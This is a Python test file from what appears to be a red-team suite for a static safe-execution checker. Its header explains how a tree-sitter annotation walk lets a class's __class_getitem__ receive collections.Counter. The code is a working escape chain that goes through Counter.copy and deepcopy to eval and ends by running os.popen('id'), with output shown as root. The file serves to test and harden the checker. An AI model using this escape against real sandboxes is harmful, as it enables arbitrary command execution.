# expect: reject unbound
# line: 28
# verified: reaches its goal under plain python3 (3.11) in a temp dir (eval obtained, id ran)
# why: thirteenth red team (third round), family N: the program's G[C] in an annotation hands C to its __class_getitem__

# Mechanism: the unbound rule refuses G[C] with G the program's class outside annotations and says annotations allow an index only of a library generic; but libclass_place_ok walks up from C and returns true at the first 'type'/'generic_type' node, which tree-sitter puts around G[C] in an annotation, before library_generic is ever asked: the program's __class_getitem__ receives collections.Counter
# Goal reached: the builtin type by value (Counter.copy(P)), then eval by value (typing._GenericAlias + deepcopy, 11b family A end gadget), called: runs id
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD b170093
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import dataclasses
import typing

class P:
    pass

box = []

class G:
    def __class_getitem__(cls, item):               # the program receives what an annotation indexes it with
        box.append(item)
        return cls

def f(a: G[collections.Counter]):                   # tree-sitter nests this as type > generic_type: the walk up
    pass                                            # meets "type" first and calls the place an annotation

K = box[0]
T = K.copy(P)                                       # Counter.copy(P) -> P.__class__(P) -> builtin type
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))   # 11b family A end gadget
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
